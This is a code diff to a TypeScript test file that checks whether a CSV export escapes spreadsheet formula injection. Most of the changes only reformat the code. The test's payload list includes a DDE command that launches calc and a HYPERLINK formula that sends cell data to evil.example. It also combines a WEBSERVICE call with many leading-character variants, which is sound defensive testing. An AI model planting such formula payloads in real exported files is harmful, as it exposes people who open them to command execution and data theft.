@@ -20,12 +20,12 @@ const parseQuoteAtStart: Parser = (text, separator) => {
   let state: 'start' | 'plain' | 'quoted' = 'start';
   const endField = () => {
     record.push(field);
-    (field = ''), (state = 'start');
+    ((field = ''), (state = 'start'));
   };
   for (let i = 0; i < text.length; i += 1) {
     const ch = text[i]!;
     if (state === 'quoted') {
-      if (ch === '"' && text[i + 1] === '"') (field += '"'), (i += 1);
+      if (ch === '"' && text[i + 1] === '"') ((field += '"'), (i += 1));
       else if (ch === '"') state = 'plain';
       else field += ch;
     } else if (state === 'start' && ch === '"') state = 'quoted';
@@ -35,7 +35,7 @@ const parseQuoteAtStart: Parser = (text, separator) => {
       endField();
       records.push(record);
       record = [];
-    } else (field += ch), (state = 'plain');
+    } else ((field += ch), (state = 'plain'));
   }
   if (field || record.length) records.push([...record, field]);
   return records;
@@ -49,14 +49,14 @@ const parseQuoteToggles: Parser = (text, separator) => {
   let quoted = false;
   for (let i = 0; i < text.length; i += 1) {
     const ch = text[i]!;
-    if (ch === '"' && quoted && text[i + 1] === '"') (field += '"'), (i += 1);
+    if (ch === '"' && quoted && text[i + 1] === '"') ((field += '"'), (i += 1));
     else if (ch === '"') quoted = !quoted;
     else if (quoted) field += ch;
-    else if (ch === separator) record.push(field), (field = '');
+    else if (ch === separator) (record.push(field), (field = ''));
     else if (ch === '\r' || ch === '\n') {
       if (ch === '\r' && text[i + 1] === '\n') i += 1;
       records.push([...record, field]);
-      (record = []), (field = '');
+      ((record = []), (field = ''));
     } else field += ch;
   }
   if (field || record.length) records.push([...record, field]);
@@ -74,13 +74,40 @@ const SEPARATORS = [',', ';', '\t', '|'];
 const startsFormula = (cell: string) => /^[\s\p{Cc}\p{Cf}"]*[=+\-@]/u.test(cell);
 
 const TRIGGERS = ['=', '+', '-', '@'];
-const LEADS = ['', ' ', '  ', '\t', '\r', '\n', '\r\n', '\0', '\u00a0', '\u3000', '\u200b', '\ufeff', '\u202e', '"', '""'];
-const BODIES = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"Click")', '1+1', 'SUM(A1:A9)', 'WEBSERVICE("http://x")'];
+const LEADS = [
+  '',
+  ' ',
+  '  ',
+  '\t',
+  '\r',
+  '\n',
+  '\r\n',
+  '\0',
+  '\u00a0',
+  '\u3000',
+  '\u200b',
+  '\ufeff',
+  '\u202e',
+  '"',
+  '""',
+];
+const BODIES = [
+  "cmd|' /C calc'!A0",
+  'HYPERLINK("http://evil.example/?x="&A1,"Click")',
+  '1+1',
+  'SUM(A1:A9)',
+  'WEBSERVICE("http://x")',
+];
 const GLUES = ['', ',', ';', '\t', '|', '\r\n', '\n', '\r'];
 
 /** Formula payloads: a trigger after each lead, at the start of the text and after each separator. */
-const formulaPayloads = TRIGGERS.flatMap((trigger) => LEADS.flatMap((lead) => BODIES.flatMap((body) =>
-  GLUES.map((glue) => (glue ? `x${glue}${lead}${trigger}${body}${glue}y` : `${lead}${trigger}${body}`)))));
+const formulaPayloads = TRIGGERS.flatMap((trigger) =>
+  LEADS.flatMap((lead) =>
+    BODIES.flatMap((body) =>
+      GLUES.map((glue) => (glue ? `x${glue}${lead}${trigger}${body}${glue}y` : `${lead}${trigger}${body}`)),
+    ),
+  ),
+);
 
 const corpora = [
   { name: 'Big List of Naughty Strings', strings: naughtyStrings },
@@ -94,7 +121,11 @@ async function* itemsOf<T>(items: readonly T[]) {
 
 /** The file as a spreadsheet gets it: `rows` through `buildCsv`, decoded, without the byte order mark. */
 async function written(rows: readonly (readonly string[])[]): Promise<string> {
-  const { blob } = await buildCsv(itemsOf(rows), { header: ['first', 'second', 'third'], cells: (row) => row, chunkSize: 50 });
+  const { blob } = await buildCsv(itemsOf(rows), {
+    header: ['first', 'second', 'third'],
+    cells: (row) => row,
+    chunkSize: 50,
+  });
   const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(await blob.arrayBuffer());
   assert.equal(text[0], '\uFEFF');
   return text.slice(1);
